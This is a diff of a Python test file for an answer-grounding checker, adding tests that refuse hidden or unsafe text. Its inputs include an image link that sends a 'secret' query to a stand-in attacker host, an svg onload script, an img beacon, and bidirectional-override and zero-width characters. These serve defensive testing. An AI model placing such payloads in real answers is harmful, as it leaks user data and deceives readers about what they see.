@@ -403,7 +403,6 @@ class TestLinks:
         [
             "see [the text](https://evil.example/x)",
             "![x](https://evil.example/p.png?q=secret)",
-            '<img src="https://evil.example/a.png">',
             "(full text at www.evil.example)",
         ],
     )
@@ -415,6 +414,13 @@ class TestLinks:
         assert report.verdict is Verdict.NOT_GROUNDED
         assert report.sentences[0].reason is Reason.LINK_MISMATCH
         assert "which the cited evidence does not hold" in report.sentences[0].detail
+
+    def test_an_html_tag_is_refused_before_its_link_is_read(self) -> None:
+        """A tag is markup a client renders (UNSAFE_TEXT, first of all reasons), whatever its
+        address; the sentence was LINK_MISMATCH before that rule."""
+        report = check(f'{CHEATING} <img src="https://evil.example/a.png"> [IPC_420_0].')
+
+        assert report.sentences[0].reason is Reason.UNSAFE_TEXT
 
     def test_a_link_as_a_lead_in_is_not_exempt(self) -> None:
         report = check(f"![x](https://evil.example/p.png?q=secret):\n{CHEATING} [IPC_420_0].")
@@ -877,3 +883,50 @@ class TestAnswerDetail:
 
     def test_an_empty_answer_says_so(self) -> None:
         assert check("   ").detail == "the answer is empty"
+
+
+class TestUnsafeText:
+    """A sentence a reader would not see as written is refused first, whatever else it is: a
+    security audit had each of these delivered GROUNDED through synthesis."""
+
+    SENTENCE = f"{THEFT} [IPC_379_0]."
+
+    @pytest.mark.parametrize(
+        "answer",
+        [
+            "<svg onload=alert()> " + SENTENCE,
+            f"{THEFT} <img src=/collect?d=x> [IPC_379_0].",
+            f"[Whoever](/login) commits theft [IPC_379_0]. {SENTENCE}",
+            "\u202e" + SENTENCE,
+            THEFT.replace("theft", "the\u200bft") + " [IPC_379_0].",
+            f"{SENTENCE}\x1bc",
+            f"{SENTENCE} \x1c {SENTENCE}",  # str.split takes \x1c for a space: between sentences
+        ],
+        ids=["svg", "img", "relative-link", "override", "zero-width", "escape", "between"],
+    )
+    def test_hidden_text_is_refused(self, answer: str) -> None:
+        report = check(answer)
+        assert (report.verdict, report.reason) == (Verdict.NOT_GROUNDED, Reason.UNSAFE_TEXT)
+        assert "a reader would not see it as written" in report.detail
+
+    def test_an_exempt_heading_is_checked_too(self) -> None:
+        report = check(f"## <b>Theft</b>\n{self.SENTENCE}")
+        assert report.sentences[0].reason is Reason.UNSAFE_TEXT
+        assert report.reason is Reason.UNSAFE_TEXT
+
+    def test_it_outranks_every_other_reason(self) -> None:
+        report = check("Murder is legal [IPC_999_0]. \u202e" + self.SENTENCE)
+        assert report.reason is Reason.UNSAFE_TEXT
+
+    def test_the_detail_quotes_the_sentence_with_its_override_escaped(self) -> None:
+        report = check("\u202e" + self.SENTENCE)
+        assert "\u202e" not in report.detail and "\\u202e" in report.detail
+
+    def test_markup_the_cited_evidence_holds_is_a_quote(self) -> None:
+        evidence = [chunk("F_0", "The form asks for <b>Name</b> and address.")]
+        report = check("The form asks for <b>Name</b> and address [F_0].", evidence)
+        assert report.verdict is Verdict.GROUNDED
+
+    def test_a_bare_email_address_is_a_link_the_evidence_must_hold(self) -> None:
+        report = check(f"{THEFT}, write to help@evil.example [IPC_379_0].")
+        assert report.reason is Reason.LINK_MISMATCH
